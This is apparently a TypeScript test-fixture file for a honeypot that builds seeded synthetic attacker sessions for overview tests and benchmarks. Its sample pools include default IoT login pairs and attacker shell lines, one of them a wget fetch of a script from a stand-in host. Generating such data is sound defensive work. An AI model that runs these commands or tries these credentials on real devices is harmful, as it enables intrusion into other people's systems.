// Synthetic sessions for overview tests and bench/api.ts: seeded, spread over time, with logins,
// commands, exploit detections and dropped samples drawn from small pools so top lists have ties and winners.
import { SCHEMA_VERSION } from '../core/events.ts';
import type { EventPayloads, HachiEvent, Protocol, SessionEventType, SessionFields } from '../core/events.ts';

export interface SyntheticOptions {
  /** Uniform in [0, 1). */
  readonly random: () => number;
  /** Session start time (ms); its events follow one per `stepMs`. */
  readonly start: number;
  /** About this many events in the session (at least connect and close). */
  readonly events: number;
  readonly stepMs?: number;
  /** Distinct source addresses drawn from. */
  readonly sources?: number;
}

const protocols: readonly Protocol[] = ['telnet', 'ssh', 'http', 'tcp'];
const personas = ['hi3518-camera', 'tplink-router', 'dvr-xm', 'nas-synology'];
const users = ['root', 'admin', 'guest', 'support', 'user'];
const passwords = ['xc3511', 'vizxv', 'admin', '123456', 'default', ''];
const lines = ['sh', 'enable', ' system', '/bin/busybox HACHI', 'cat /proc/cpuinfo\t', 'cd /tmp || cd /var/run', 'uname -a', 'wget http://203.0.113.9/x.sh'];
const signatures = ['hnap-rce', 'gpon-rce', 'jaws-shell', 'thinkphp-rce'];

function pick<T>(random: () => number, list: readonly T[]): T {
  return list[Math.floor(random() * list.length)] as T;
}

/** One session's events, ids unique per `index`. */
export function syntheticSession(index: number, o: SyntheticOptions): HachiEvent[] {
  const r = o.random;
  const step = o.stepMs ?? 1000;
  const sources = o.sources ?? 5000;
  const n = Math.floor(r() * sources);
  const fields: SessionFields = {
    session: `s${index.toString(36).padStart(8, '0')}`,
    protocol: pick(r, protocols),
    mode: r() < 0.1 ? 'real' : 'emulated',
    persona: pick(r, personas),
    src: { ip: `198.${18 + ((n >> 16) & 1)}.${(n >> 8) & 255}.${n & 255}`, port: 40_000 + (index % 20_000) },
    dst: { ip: '192.0.2.10', port: 23 },
  };
  const out: HachiEvent[] = [];
  const add = <K extends SessionEventType>(type: K, data: EventPayloads[K]): void => {
    const k = out.length;
    out.push({ id: `${fields.session}-${k.toString(36).padStart(4, '0')}`, type, ts: o.start + k * step, schema: SCHEMA_VERSION, sensor: 'bench', ...fields, data } as HachiEvent);
  };
  add('session.connect', {});
  const attempts = 1 + Math.floor(r() * 4);
  for (let a = 1; a <= attempts && out.length < o.events - 1; a++) {
    add('auth.attempt', { method: 'password', username: pick(r, users), password: pick(r, passwords), success: a === attempts && r() < 0.7, attempt: a });
  }
  while (out.length < o.events - 1) {
    const roll = r();
    if (roll < 0.02) add('exploit.detected', { seq: out.length, signature: pick(r, signatures), name: 'x', cves: [], vendor: 'v', product: 'p', technique: 't', classes: [], affected: false, payload: null, evidence: 'e' });
    else if (roll < 0.03) add('file.write', { path: '/tmp/.d', sha256: (Math.floor(r() * 500) + index * 7919).toString(16).padStart(64, '0'), size: 100, reason: 'exec' });
    else add('command.input', { line: pick(r, lines) });
  }
  add('session.close', { reason: 'exit', durationMs: out.length * step, bytesIn: 10, bytesOut: 20 });
  return out;
}

/** A small seeded PRNG (mulberry32), so runs are repeatable. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
